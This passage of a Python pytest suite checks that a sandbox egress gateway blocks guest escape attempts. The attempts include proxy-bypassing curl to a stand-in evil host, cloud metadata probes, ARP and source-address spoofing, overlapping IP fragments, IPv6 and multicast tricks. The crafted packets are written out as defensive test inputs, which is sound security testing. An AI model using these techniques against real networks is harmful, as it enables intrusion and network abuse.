"""Getting out without the gateway: frames, packets and connections that no well-behaved guest sends (T01 to T23).

Guests are networks as a host makes them, with root and raw sockets inside. A packet that must not arrive is looked for where it
would: on the link of its destination, not only at a listener.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import os
import re
import signal
import socket
import ssl
import struct
from collections.abc import Iterator

import pytest

from hutch.egress.policy import check
from hutch.errors import BadRequestError
from hutch.host import kernel
from tests.conftest import wait_until
from tests.egress import packets
from tests.egress.dns_wire import AAAA, NO_SUCH_NAME, question
from tests.egress.packets import (
    ACK,
    BROADCAST,
    ETHERTYPE_ARP,
    ETHERTYPE_IPV6,
    MORE_FRAGMENTS,
    PUSH,
    SYN,
    arp,
    ethernet,
    ipv4,
    tcp,
    udp,
)
from tests.egress.world import API, CANARY, DEADLINE_S, EVIL, METADATA, NAME_SERVER, SHARED, Guest, World

pytestmark = pytest.mark.root

OURS = "198.51.100.1"
"""An address of this machine itself, on the link to the origins."""
RANGE = {"subnets": {"allow": ["198.51.100.0/24"]}}
EVERYTHING = {"subnets": {"allow": ["0.0.0.0/0"]}}
HTTP = b"GET / HTTP/1.1\r\nhost: api.test\r\n\r\n"
MOST_ROUNDS = 5
AT_ONCE_S = 2.5
"""A refusal needs no time; the first packet on a new link may wait a second for the other end to be found."""
REFUSED = {"ECONNRESET", "ECONNREFUSED", "EHOSTUNREACH"}
ODD_LITERALS = (
    "0x7f.1",
    "2130706433",
    "0177.0.0.1",
    "127.1",
    "1.2.3.4.5",
    "[::10.0.0.1]",
    "[fe80::1%25eth0]",
    "[::ffff:10.9.9.9",
)
PROXY_PORTS = (53, 80, 443, 1080, 3128, 8080, 8888)


def hello(name: str | None) -> bytes:
    """A TLS greeting with any bytes as its server name."""
    context = ssl._create_unverified_context()
    # A name that the library takes, of the same length.
    stand_in = None if name is None else "".join("n" if at % 40 or at < 2 else "." for at in range(len(name), 0, -1))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=stand_in)
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    greeting = outgoing.read()
    return greeting if stand_in is None or name is None else greeting.replace(stand_in.encode(), name.encode())


def counted(world: World, counter: str) -> int:
    """Packets that the kernel dropped."""
    listed = json.loads(kernel.run(["nft", "-j", "list", "counter", "inet", world.networks._names.table, counter]))
    return int(listed["nftables"][1]["counter"]["packets"])


def gateway_ports(world: World) -> list[int]:
    """Where guests' connections and datagrams really go."""
    rules = kernel.run(["nft", "list", "chain", "inet", world.networks._names.table, "hand"])
    return [int(port) for port in re.findall(r"tproxy ip to 127\.0\.0\.1:(\d+)", rules)]


def gateway_pid(world: World) -> int:
    return int((world.directory / "gateway" / "process").read_text().split()[0])


def parts(frames: list[bytes], ethertype: int = packets.ETHERTYPE_IPV4) -> list[bytes]:
    """The packets in frames of one type."""
    return [frame[14:] for frame in frames if frame[12:14] == struct.pack("!H", ethertype)]


async def settle(world: World, guest: Guest) -> None:
    """Wait until whatever was sent before has had every chance to arrive: something later did."""
    before = len(world.origins.seen().raw["dns"])
    await guest.policy("allow-all")
    assert await guest.ask(question("fence.test", 16))
    await world.origins.wait(lambda seen: len(seen.raw["dns"]) > before, "the fence did not arrive")


@contextlib.contextmanager
def listening(address: str, port: int = 0) -> Iterator[tuple[socket.socket, int]]:
    """A service of this host."""
    with socket.create_server((address, port)) as server:
        server.setblocking(False)
        yield server, server.getsockname()[1]


def nobody_came(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return True
    return False


# -- without a name ------------------------------------------------------------------------------------


@pytest.mark.defence("domain-patterns")
async def test_t01_ignoring_proxy_variables_changes_nothing(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    ran = await guest.run(
        "env",
        "-i",
        "curl",
        "-sS",
        "--noproxy",
        "*",
        "--resolve",
        f"evil.test:443:{EVIL}",
        "https://evil.test/",
        "-w",
        "%{time_total}",
    )
    assert ran.code == 35, ran
    assert float(ran.out) < AT_ONCE_S
    assert outside.origins.seen().is_silent
    record = await guest.audited(kind="tls", decision="deny")
    assert (record["reason"], record["name"], record["origDst"], record["generation"]) == (
        "domain_deny",
        "evil.test",
        f"{EVIL}:443",
        1,
    )


@pytest.mark.defence("unnamed-flows")
@pytest.mark.section("14.2")
async def test_t02_an_address_without_a_name_needs_a_range(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    found = await guest.connect(SHARED, 443, hello(None))
    assert (found.end, found.took_s < AT_ONCE_S) == ("ECONNRESET", True)
    assert outside.origins.seen().is_silent
    record = await guest.audited(kind="tls", decision="deny")
    assert (record["reason"], record["generation"]) == ("no_name", 1)
    await guest.policy(RANGE)
    ran = await guest.curl("-k", f"https://{SHARED}/")
    assert ran.out == "ok\n200", ran
    record = await guest.audited(decision="allow", reason="cidr")
    assert (record["dst"], record["mode"], record["generation"]) == (f"{SHARED}:443", "splice", 2)


@pytest.mark.parametrize("literal", ODD_LITERALS)
@pytest.mark.defence("name-grammar")
async def test_t03_odd_spellings_of_an_address_are_no_names(outside: World, literal: str) -> None:
    guest = await outside.guest({"allow": ["*"], "defaults": {"plaintextHttp": True, "unmatched": "deny"}})
    assert (await guest.connect(EVIL, 443, hello(literal))).end == "ECONNRESET"
    head = f"GET / HTTP/1.1\r\nhost: {literal}\r\n\r\n".encode()
    assert (await guest.connect(EVIL, 80, head)).end == "ECONNRESET"
    tunnel = f"CONNECT {literal}:443 HTTP/1.1\r\nhost: {literal}:443\r\n\r\n".encode()
    assert (await guest.connect(EVIL, 80, tunnel)).end == "ECONNRESET"
    seen = outside.origins.seen()
    assert seen.is_silent
    assert not seen.questions
    for kind in ("tls", "http"):
        record = await guest.audited(kind=kind, decision="deny", generation=1)
        assert record["reason"] == "name_invalid"
    with pytest.raises(BadRequestError):
        check({"allow": [literal]})


@pytest.mark.defence("unnamed-flows")
async def test_t03_an_address_as_a_server_name_is_judged_by_where_it_goes(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"], "subnets": {"allow": [f"{SHARED}/32"]}})
    for name in ("10.9.9.9", "[::ffff:10.9.9.9]", SHARED):
        assert (await guest.connect(EVIL, 443, hello(name))).end == "ECONNRESET"
    assert outside.origins.seen().is_silent
    assert {record["reason"] for record in await guest.audit(decision="deny")} <= {"no_name", "name_invalid"}
    assert (await guest.connect(SHARED, 443, hello("10.9.9.9"))).end == "data"


# -- IPv6 ----------------------------------------------------------------------------------------------


@pytest.mark.defence("kernel-ipv4-only")
@pytest.mark.section("14.2")
async def test_t04_ipv6_does_not_exist(outside: World) -> None:
    guest = await outside.guest("allow-all")
    link = guest.network.link
    assert not kernel.run(["ip", "-6", "addr", "show", "dev", link])
    hardware = guest.gateway_hardware
    ours = b"\xfe\x80" + bytes(6) + bytes([hardware[0] ^ 2]) + hardware[1:3] + b"\xff\xfe" + hardware[3:]
    own = b"\xfe\x80" + bytes(13) + b"\x07"
    all_nodes, all_routers = b"\xff\x02" + bytes(13) + b"\x01", b"\xff\x02" + bytes(13) + b"\x02"
    outer = socket.inet_pton(socket.AF_INET6, "2001:db8::66")
    before = counted(outside, "spoofed")

    def packet(to: bytes, header: int, payload: bytes) -> bytes:
        pseudo = own + to + struct.pack("!II", len(payload), header)
        place = 2 if header == 58 else 16
        payload = payload[:place] + struct.pack("!H", packets.checksum(pseudo + payload)) + payload[place + 2 :]
        return struct.pack("!IHBB", 6 << 28, len(payload), header, 255) + own + to + payload

    with guest.wire() as wire, outside.origins.wire() as world:
        syn = tcp(("0.0.0.0", 4000), ("0.0.0.0", 443), SYN)
        echo = struct.pack("!BBHHH", 128, 0, 0, 1, 1) + CANARY.encode()
        sent = [
            packet(all_routers, 58, struct.pack("!BBHI", 133, 0, 0, 0)),
            packet(all_nodes, 58, echo),
            packet(ours, 58, echo),
            packet(all_nodes, 58, struct.pack("!BBHI", 135, 0, 0, 0) + ours),
            packet(ours, 6, syn),
            packet(outer, 6, syn),
        ]
        for one in sent:
            for to in (BROADCAST, hardware):
                wire.send(ethernet(to, wire.address, ETHERTYPE_IPV6, one))
        await settle(outside, guest)
        assert not parts(wire.received(), ETHERTYPE_IPV6)
        assert not parts(world.received(), ETHERTYPE_IPV6)
    # With IPv6 off on the link the kernel drops even before the rules count; what counts is that nothing came of it.
    assert counted(outside, "spoofed") - before in (0, 2 * len(sent))


@pytest.mark.defence("question-types")
async def test_t05_addresses_that_carry_another_are_closed(outside: World) -> None:
    embedded = ("64:ff9b::a9fe:a9fe", "64:ff9b:1::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:0:a9fe:a9fe::1", "::ffff:10.9.9.9")
    outside.origins.zone("api.test", [{"records": [["AAAA", address] for address in embedded]}])
    guest = await outside.guest({"allow": ["api.test"]})
    reply = await guest.ask(question("api.test", AAAA))
    assert reply is not None
    assert (reply.code, reply.records) == (0, [])
    assert not outside.origins.seen().questions
    assert (await guest.connect(EVIL, 443, hello("api.test"))).end == "ECONNRESET"
    assert outside.origins.seen().is_silent
    assert await guest.audited(kind="tls", decision="deny", reason="upstream_connect")
    for address in embedded:
        with pytest.raises(BadRequestError):
            check({"subnets": {"allow": [f"{address}/128"]}})


# -- addresses that no policy opens --------------------------------------------------------------------


@pytest.mark.parametrize("policy", ["allow-all", EVERYTHING], ids=["allow-all", "range"])
@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t06_metadata_is_closed_under_every_policy(outside: World, policy: object) -> None:
    guest = await outside.guest(policy)
    found = await asyncio.gather(*(guest.connect(address, port, HTTP) for address in METADATA for port in (80, 8080)))
    assert {outcome.end for outcome in found} == {"ECONNRESET"}
    assert all(outcome.took_s < AT_ONCE_S for outcome in found)
    told = await asyncio.gather(*(guest.datagram(address, 123) for address in METADATA))
    assert {outcome.end for outcome in told} == {"ECONNREFUSED"}
    assert outside.origins.seen().is_silent
    for address in METADATA:
        record = await guest.audited(kind="tcp", origDst=f"{address}:80")
        assert (record["decision"], record["reason"], record["generation"]) == ("deny", "hard_deny", 1)
        assert await guest.audited(kind="udp", origDst=f"{address}:123", reason="hard_deny")


@pytest.mark.defence("hard-deny", "kernel-gateway")
@pytest.mark.defence("vetted-addresses")
@pytest.mark.defence("special-names")
async def test_t06_metadata_is_closed_behind_an_allowed_name(outside: World) -> None:
    guest = await outside.guest({"allow": ["*.wild.test", "metadata.google.internal"]})
    for index, address in enumerate(METADATA):
        outside.origins.answer(f"m{index}.wild.test", address)
        reply = await guest.ask(question(f"m{index}.wild.test"))
        assert reply is not None
        assert (reply.code, reply.records) == (NO_SUCH_NAME, [])
        assert (await guest.connect(address, 443, hello(f"m{index}.wild.test"))).end == "ECONNRESET"
        assert (await guest.connect(EVIL, 443, hello(f"m{index}.wild.test"))).end == "ECONNRESET"
        assert await guest.audited(kind="dns", name=f"m{index}.wild.test", reason="dns_private")
        assert await guest.audited(kind="tls", name=f"m{index}.wild.test", reason="address_class")
    reply = await guest.ask(question("metadata.google.internal"))
    assert reply is not None
    assert reply.code == NO_SUCH_NAME
    assert await guest.audited(kind="dns", name="metadata.google.internal", reason="name_special")
    seen = outside.origins.seen()
    assert seen.is_silent
    assert "metadata.google.internal" not in seen.questions


TRY = """
import errno, socket, sys
for target in sys.argv[1:]:
    kind, address, port = target.split(",")
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        try:
            sock.connect((address, int(port)))
            sock.send(b"from the gateway's user")
            sock.recv(100)
            print("reached")
        except OSError as error:
            print(errno.errorcode.get(error.errno or 0, type(error).__name__))
"""


async def _as_user(user: int, *targets: tuple[str, str, int]) -> list[str]:
    """What a program of this user gets on the host."""
    process = await asyncio.create_subprocess_exec(
        *("setpriv", "--reuid", str(user), "--regid", str(user), "--clear-groups", "/usr/bin/python3", "-c", TRY),
        *(",".join(map(str, target)) for target in targets),
        stdout=asyncio.subprocess.PIPE,
        cwd="/",
        env={},
    )
    out, _ = await process.communicate()
    return out.decode().split()


@pytest.mark.defence("kernel-gateway")
async def test_t06_the_kernel_denies_the_gateway_what_its_policies_deny(outside: World) -> None:
    targets = [(kind, address, 80 if kind == "tcp" else 123) for address in METADATA for kind in ("tcp", "udp")]
    found = await _as_user(outside.networks.gateway_user, *targets)
    assert len(found) == len(targets)
    assert "reached" not in found
    assert outside.origins.seen().is_silent
    # The same program reaches what the gateway may reach, and another user reaches everything.
    assert await _as_user(outside.networks.gateway_user, ("udp", EVIL, 123)) == ["reached"]
    assert await _as_user(outside.networks.gateway_user + 1, ("udp", METADATA[0], 123)) == ["reached"]


@pytest.mark.defence("kernel-guests")
async def test_t06_the_kernel_lets_the_gateway_ask_its_name_servers_and_begin_nothing_with_guests(outside: World) -> None:
    guest = await outside.guest("allow-all")
    address = guest.network.guest_address
    user = outside.networks.gateway_user
    with guest.socket(socket.SOCK_STREAM) as stream, guest.socket(socket.SOCK_DGRAM) as datagrams, guest.wire() as wire:
        stream.bind((address, 8080))
        stream.listen()
        datagrams.bind((address, 8080))
        found = await _as_user(user, ("tcp", address, 8080), ("udp", address, 8080), ("tcp", NAME_SERVER, 443))
        assert "reached" not in found
        assert not parts(wire.received())
        # Anybody else's packets do arrive; the guest's answers do not come back.
        await _as_user(user + 1, ("tcp", address, 8080))
        assert parts(wire.received())


@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t07_the_host_and_the_gateway_answer_nothing_but_dns(outside: World) -> None:
    guest = await outside.guest("allow-all")
    here = guest.network.host_address
    with listening("0.0.0.0") as (server, port):
        ports = [port, *gateway_ports(outside), *PROXY_PORTS[1:], 22, 25, 111, 2375, 5000, 6443, 9000, 9090, 10250]
        for address in (here, OURS):
            found = await asyncio.gather(*(guest.connect(address, one, HTTP) for one in ports))
            assert {outcome.end for outcome in found} == {"ECONNRESET"}
        for one in ports:
            assert (await guest.datagram(here, one)).end == "ECONNREFUSED"
        # Addresses that the guest's own kernel would keep to itself leave as packets.
        with guest.wire() as wire:
            for address in ("127.0.0.1", "0.0.0.0", "127.0.0.53"):
                for one in ports:
                    segment = tcp((guest.network.guest_address, 4000), (address, one), SYN)
                    wire.send_ipv4(ipv4(guest.network.guest_address, address, 6, segment), guest.gateway_hardware)
            await settle(outside, guest)
        assert nobody_came(server)
    assert outside.origins.seen().is_silent
    assert (await guest.audited(kind="tcp", origDst=f"{here}:{port}"))["reason"] == "hard_deny"
    assert (await guest.audited(kind="tcp", origDst=f"{OURS}:{port}"))["reason"] == "self"


@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t07_an_address_that_the_host_got_later_is_closed_too(outside: World) -> None:
    guest = await outside.guest("allow-all")
    late = "203.0.113.77"
    kernel.run(["ip", "addr", "add", f"{late}/32", "dev", "lo"])
    try:
        with listening(late) as (server, port):
            assert (await guest.connect(late, port, HTTP)).end == "ECONNRESET"
            assert nobody_came(server)
        assert await guest.audited(kind="tcp", origDst=f"{late}:{port}", decision="deny")
    finally:
        kernel.run(["ip", "addr", "del", f"{late}/32", "dev", "lo"])


# -- other guests --------------------------------------------------------------------------------------


@pytest.mark.defence("hard-deny", "kernel-gateway", "kernel-guests")
async def test_t08_two_guests_never_reach_each_other(outside: World) -> None:
    attacker, victim = await outside.guest("allow-all"), await outside.guest("allow-all")
    address = victim.network.guest_address
    with victim.socket(socket.SOCK_STREAM) as server, victim.wire() as wire, attacker.wire() as own:
        server.bind((address, 8080))
        server.listen()
        for target in (address, victim.network.host_address):
            found = await asyncio.gather(*(attacker.connect(target, port, HTTP) for port in (22, 80, 443, 8080)))
            assert {outcome.end for outcome in found} == {"ECONNRESET"}
            assert (await attacker.datagram(target, 8080)).end == "ECONNREFUSED"
        source = attacker.network.guest_address
        for to in (BROADCAST, attacker.gateway_hardware, victim.gateway_hardware):
            own.send_ipv4(ipv4(source, address, 1, struct.pack("!BBHHH", 8, 0, 0xF7FE, 1, 1)), to)
            own.send_ipv4(ipv4(source, address, 47, b"tunnel"), to)
        own.send(ethernet(BROADCAST, own.address, ETHERTYPE_ARP, arp(1, (own.address, source), (bytes(6), address))))
        await settle(outside, attacker)
        assert not wire.received()
        assert not parts(own.received(), ETHERTYPE_ARP)[1:], "somebody answers for the other guest"
    assert not await victim.audit(kind="tcp")
    assert (await attacker.audited(origDst=f"{address}:8080", kind="tcp"))["reason"] == "hard_deny"


@pytest.mark.defence("kernel-source")
async def test_t09_a_source_address_is_bound_to_its_link(outside: World) -> None:
    attacker, victim = await outside.guest("deny-all"), await outside.guest("allow-all")
    before = counted(outside, "spoofed")
    sources = (victim.network.guest_address, attacker.network.host_address, EVIL, "127.0.0.1", "0.0.0.0", "255.255.255.255")
    with attacker.wire() as wire, victim.wire() as other, outside.origins.wire() as world:
        for source in sources:
            for to in (BROADCAST, attacker.gateway_hardware):
                wire.send_ipv4(ipv4(source, EVIL, 6, tcp((source, 4000), (EVIL, 8080), SYN)), to)
                wire.send_ipv4(ipv4(source, EVIL, 17, udp((source, 4000), (EVIL, 123), b"spoofed")), to)
                asked = udp((source, 4000), (EVIL, 53), question("spoofed.test"))
                wire.send_ipv4(ipv4(source, EVIL, 17, asked), to)
        await settle(outside, victim)
        assert counted(outside, "spoofed") - before == 6 * len(sources)
        assert not parts(other.received())[2:], "more than the fence's answer"
        assert not [packet for packet in parts(world.received()) if packet[16:20] == socket.inet_aton(EVIL)]
    seen = outside.origins.seen()
    assert seen.is_silent
    assert "spoofed.test" not in seen.questions
    assert not [record for record in await victim.audit() if record["kind"] in ("tcp", "udp")]


# -- ARP -----------------------------------------------------------------------------------------------


@pytest.mark.defence("kernel-arp")
async def test_t10_nobody_believes_a_guest_about_other_addresses(outside: World) -> None:
    attacker, victim = await outside.guest("allow-all"), await outside.guest("allow-all")
    assert (await victim.datagram(EVIL, 123)).end == "data"
    mine = victim.network.link

    def neighbours(link: str) -> set[tuple[str, str]]:
        listed = json.loads(kernel.run(["ip", "-j", "neigh", "show", "dev", link]))
        return {(entry["dst"], entry.get("lladdr", "")) for entry in listed}

    before, own_before = neighbours(mine), neighbours(attacker.network.link)
    with attacker.wire() as wire, victim.wire() as other:
        claimed = (victim.network.guest_address, victim.network.host_address, attacker.network.host_address, OURS, EVIL)
        for address in claimed:
            for operation in (1, 2):
                gratuitous = arp(operation, (wire.address, address), (BROADCAST, address))
                wire.send(ethernet(BROADCAST, wire.address, ETHERTYPE_ARP, gratuitous))
                told = arp(operation, (wire.address, address), (bytes(6), attacker.network.host_address))
                wire.send(ethernet(attacker.gateway_hardware, wire.address, ETHERTYPE_ARP, told))
        offer = udp(("0.0.0.0", 67), ("255.255.255.255", 68), b"\x02\x01\x06\x00" + bytes(296))
        wire.send_ipv4(ipv4("0.0.0.0", "255.255.255.255", 17, offer))
        await settle(outside, attacker)
        assert neighbours(mine) == before
        assert {entry for entry in neighbours(attacker.network.link) if entry[0] in claimed} <= own_before
        assert not other.received()
    assert (await victim.datagram(EVIL, 123)).end == "data"


@pytest.mark.defence("kernel-arp")
async def test_t10_arp_tells_nothing_about_the_host(outside: World) -> None:
    guest, other = await outside.guest("deny-all"), await outside.guest("deny-all")
    source = guest.network.guest_address
    with guest.wire() as wire:

        def who_has(address: str) -> list[bytes]:
            wire.send(ethernet(BROADCAST, wire.address, ETHERTYPE_ARP, arp(1, (wire.address, source), (bytes(6), address))))
            return parts(wire.received(), ETHERTYPE_ARP)

        # The kernel answers within the call that sends: the link has no queue.
        assert who_has(guest.network.host_address)
        assert not who_has(OURS)
        assert not who_has(other.network.host_address)
        assert not who_has("127.0.0.1")


@pytest.mark.defence("kernel-arp")
async def test_t10_a_guest_cannot_fill_the_table_of_neighbours(outside: World) -> None:
    attacker, victim = await outside.guest("deny-all"), await outside.guest("allow-all")
    with attacker.wire() as wire:
        for number in range(1500):
            claimed = f"10.7.{number // 250}.{number % 250 + 1}"
            asked = arp(1, (wire.address, claimed), (bytes(6), attacker.network.host_address))
            wire.send(ethernet(BROADCAST, wire.address, ETHERTYPE_ARP, asked))
    listed = json.loads(kernel.run(["ip", "-j", "neigh", "show", "dev", attacker.network.link]))
    assert len(listed) <= 1
    assert (await victim.datagram(EVIL, 123)).end == "data"


# -- packets that are not what they seem ---------------------------------------------------------------


@pytest.mark.defence("kernel-drop", "kernel-hand-others")
async def test_t11_fragments_are_judged_whole(outside: World) -> None:
    guest = await outside.guest({"subnets": {"allow": [f"{API}/32"]}})
    source = guest.network.guest_address
    with guest.wire() as wire, outside.origins.wire() as world:
        to = guest.gateway_hardware
        segment = tcp((source, 4000), (EVIL, 8080), SYN)
        for number, (first, second) in enumerate([(segment[:8], segment[8:]), (segment[:16], segment[16:])]):
            wire.send_ipv4(ipv4(source, EVIL, 6, first, identifier=number, fragment=MORE_FRAGMENTS), to)
            wire.send_ipv4(ipv4(source, EVIL, 6, second, identifier=number, fragment=len(first) // 8), to)
        # Overlapping: the second one would put another destination port over the first one's.
        datagram = udp((source, 4000), (EVIL, 123), b"teardrop" * 8)
        wire.send_ipv4(ipv4(source, EVIL, 17, datagram[:32], identifier=9, fragment=MORE_FRAGMENTS), to)
        wire.send_ipv4(ipv4(source, EVIL, 17, datagram[24:], identifier=9, fragment=3), to)
        wire.send_ipv4(ipv4(source, EVIL, 17, datagram[:16], identifier=10, fragment=MORE_FRAGMENTS), to)
        wire.send_ipv4(ipv4(source, EVIL, 17, datagram[8:], identifier=11, fragment=1), to)
        wire.send_ipv4(ipv4(source, EVIL, 17, datagram[:8], identifier=12, fragment=0x1FFF), to)
        await settle(outside, guest)
        assert not [packet for packet in parts(world.received()) if packet[16:20] == socket.inet_aton(EVIL)]
    assert outside.origins.seen().is_silent
    # The guest's kernel knows nothing of the connection and resets it, so that it is refused or never was.
    for record in await guest.audit(decision="allow"):
        assert record["kind"] in ("dns", "policy"), record


async def test_t11_a_large_datagram_arrives_whole_and_so_does_its_answer(outside: World) -> None:
    guest = await outside.guest(RANGE)
    data = bytes(range(256)) * 16
    found = await guest.datagram(EVIL, 123, data)
    assert found.data == b"echo:" + data
    assert [datagram["data"] for datagram in outside.origins.seen().datagrams] == [data]


@pytest.mark.defence("kernel-fragments")
async def test_t11_a_fragment_never_becomes_part_of_another_guests_packet(outside: World) -> None:
    attacker, victim = await outside.guest("deny-all"), await outside.guest(RANGE)
    before = counted(outside, "spoofed")
    source = victim.network.guest_address
    with attacker.wire() as wire, victim.wire() as own:
        datagram = udp((source, 4000), (EVIL, 123), b"the victim's".ljust(32))
        poison = datagram[:8] + b"another".ljust(16)
        total = struct.unpack("!H", datagram[6:8])[0]
        assert total
        first = poison[:6] + b"\0\0" + poison[8:]
        # The attacker's first fragment is there before the victim's, which is then an overlap or a duplicate.
        wire.send_ipv4(ipv4(source, EVIL, 17, first, identifier=7, fragment=MORE_FRAGMENTS), attacker.gateway_hardware)
        own.send_ipv4(ipv4(source, EVIL, 17, datagram[:24], identifier=7, fragment=MORE_FRAGMENTS), victim.gateway_hardware)
        own.send_ipv4(ipv4(source, EVIL, 17, datagram[24:], identifier=7, fragment=3), victim.gateway_hardware)
        seen = await outside.origins.wait(lambda seen: bool(seen.datagrams), "the victim's datagram did not arrive")
    assert [found["data"] for found in seen.datagrams] == [b"the victim's".ljust(32)]
    assert counted(outside, "spoofed") == before + 1


@pytest.mark.defence("kernel-options")
async def test_t11_options_tags_and_other_protocols_of_the_link_go_nowhere(outside: World) -> None:
    guest = await outside.guest("allow-all")
    source = guest.network.guest_address
    before = counted(outside, "spoofed")
    plain = ipv4(source, EVIL, 17, udp((source, 4000), (EVIL, 123), b"tagged"))
    stolen = ipv4(EVIL, EVIL, 17, udp((EVIL, 4000), (EVIL, 123), b"tagged"))
    routes = (b"\x83\x07\x04" + socket.inet_aton(EVIL) + b"\0", b"\x89\x07\x04" + socket.inet_aton(EVIL) + b"\0")
    options = (*routes, b"\x07\x07\x04\0\0\0\0\0", b"\x94\x04\0\0", b"\x01\x01\x01\x00")
    with guest.wire() as wire, outside.origins.wire() as world:
        to = guest.gateway_hardware
        for option in options:
            wire.send_ipv4(ipv4(source, EVIL, 17, udp((source, 4000), (EVIL, 123), b"option"), options=option), to)
            wire.send_ipv4(ipv4(source, EVIL, 6, tcp((source, 4000), (EVIL, 8080), SYN), options=option), to)
        assert counted(outside, "spoofed") - before == 2 * len(options)
        for tag in (b"\x81\x00\x00\x07", b"\x88\xa8\x00\x07\x81\x00\x00\x08"):
            wire.send(to + wire.address + tag + b"\x08\x00" + plain)
        # A tag of number 0 says nothing but a priority: the packet in it is judged as any other.
        wire.send(to + wire.address + b"\x81\x00\x00\x00\x08\x00" + stolen)
        for ethertype in (0x8847, 0x8863, 0x8864, 0x88CC, 0x88F7, 0x8137, 0x0007, 0x22F0):
            wire.send(ethernet(to, wire.address, ethertype, plain))
        await settle(outside, guest)
        arrived = [packet for packet in parts(world.received()) if packet[16:20] == socket.inet_aton(EVIL)]
    assert not arrived
    assert outside.origins.seen().is_silent


# -- UDP and what is neither UDP nor TCP ---------------------------------------------------------------


@pytest.mark.defence("datagrams")
@pytest.mark.defence("question-types")
@pytest.mark.section("14.2")
async def test_t12_quic_is_refused_at_once(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test", "*"]})
    found = await guest.datagram(API, 443, b"\xc0\x00\x00\x00\x01".ljust(1200, b"\0"))
    assert (found.end, found.took_s < AT_ONCE_S) == ("ECONNREFUSED", True)
    record = await guest.audited(kind="udp", decision="deny")
    assert (record["reason"], record["origDst"], record["generation"]) == ("udp", f"{API}:443", 1)
    reply = await guest.ask(question("api.test", 65))
    assert reply is not None
    assert (reply.code, reply.records) == (0, [])
    seen = outside.origins.seen()
    assert seen.is_silent
    assert not seen.questions


@pytest.mark.defence("quic-hints")
async def test_t12_an_inspected_response_does_not_advertise_quic(outside: World) -> None:
    rule = {"transform": [{"headers": {"authorization": f"Bearer {CANARY}"}}]}
    guest = await outside.guest({"allow": {"api.test": [rule]}})
    outside.origins.script("api.test", b'HTTP/1.1 200 OK\r\nAlt-Svc: h3=":443"; ma=86400\r\ncontent-length: 2\r\n\r\nok')
    ran = await guest.curl("-i", "https://api.test/")
    assert ran.code == 0, ran
    assert "alt-svc" not in ran.out.lower()
    assert CANARY not in ran.out + ran.err


@pytest.mark.defence("datagrams")
@pytest.mark.section("14.2")
async def test_t13_no_other_datagram_leaves_under_a_policy_of_names(outside: World) -> None:
    guest = await outside.guest({"allow": ["*"]})
    ports = (7, 19, 67, 68, 69, 111, 123, 137, 161, 389, 443, 500, 514, 853, 1194, 1434, 1900, 3478, 4500, 5060, 5353, 5355)
    more = (11211, 33434, 41641, 51820)
    found = await asyncio.gather(*(guest.datagram(EVIL, port) for port in (*ports, *more)))
    assert {outcome.end for outcome in found} == {"ECONNREFUSED"}
    assert outside.origins.seen().is_silent
    assert {record["reason"] for record in await guest.audit(kind="udp")} <= {"udp"}
    assert await guest.audited(kind="udp", origDst=f"{EVIL}:51820")


@pytest.mark.defence("kernel-drop", "kernel-hand-others")
async def test_t13_multicast_and_broadcast_never_leave(outside: World) -> None:
    guest = await outside.guest("allow-all")
    source = guest.network.guest_address
    groups = (
        ("224.0.0.251", 5353),
        ("224.0.0.252", 5355),
        ("239.255.255.250", 1900),
        ("255.255.255.255", 67),
        ("198.51.100.255", 9),
    )
    with guest.wire() as wire, outside.origins.wire() as world, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ours:
        ours.bind(("0.0.0.0", 1900))
        ours.setblocking(False)
        ours.setsockopt(
            socket.IPPROTO_IP,
            socket.IP_ADD_MEMBERSHIP,
            socket.inet_aton("239.255.255.250") + socket.inet_aton(guest.network.host_address),
        )
        for address, port in groups:
            packet = ipv4(source, address, 17, udp((source, 4000), (address, port), CANARY.encode()))
            wire.send_ipv4(packet, BROADCAST)
            wire.send_ipv4(packet, b"\x01\x00\x5e" + socket.inet_aton(address)[1:])
            wire.send_ipv4(packet, guest.gateway_hardware)
        await settle(outside, guest)
        assert not [frame for frame in world.received() if CANARY.encode() in frame]
        with pytest.raises(BlockingIOError):
            ours.recv(100)
    assert outside.origins.seen().is_silent


@pytest.mark.parametrize("policy", ["allow-all", RANGE], ids=["allow-all", "range"])
@pytest.mark.defence("datagrams-end")
async def test_t13_a_datagram_that_may_leave_is_answered_from_where_it_went(outside: World, policy: object) -> None:
    guest = await outside.guest(policy)
    loop = asyncio.get_running_loop()
    with guest.socket(socket.SOCK_DGRAM) as sock:
        sock.bind((guest.network.guest_address, 0))
        for number in range(3):
            for address in (EVIL, SHARED):
                for port in (123, 443):
                    await loop.sock_sendto(sock, b"%d" % number, (address, port))
                    async with asyncio.timeout(2):
                        assert await loop.sock_recvfrom(sock, 100) == (b"echo:%d" % number, (address, port))
    assert len(outside.origins.seen().datagrams) == 12
    # One flow, one port outside: a server that knows its clients by their ports sees one client.
    assert len({datagram["peer"] for datagram in outside.origins.seen().datagrams}) == 4
    await guest.policy("deny-all")
    assert (await guest.datagram(EVIL, 123)).end == "ECONNREFUSED"
    for address in (EVIL, SHARED):
        record = await guest.audited(kind="revoke", origDst=f"{address}:123")
        assert (record["decision"], record["reason"], record["up"], record["down"]) == ("revoked", "deny_all", 3, 18)


@pytest.mark.defence("datagrams-end")
async def test_t13_a_closed_sandbox_hears_nothing_more(outside: World) -> None:
    guest = await outside.guest("allow-all")
    assert (await guest.datagram(EVIL, 123)).end == "data"
    await outside.gateway.remove(guest.network)
    record = await guest.audited(kind="revoke", origDst=f"{EVIL}:123")
    assert (record["decision"], record["reason"]) == ("revoked", "revoked")


@pytest.mark.parametrize("policy", ["deny-all", {"allow": ["*"]}, "allow-all"], ids=["deny-all", "names", "allow-all"])
@pytest.mark.defence("kernel-drop")
@pytest.mark.section("14.2")
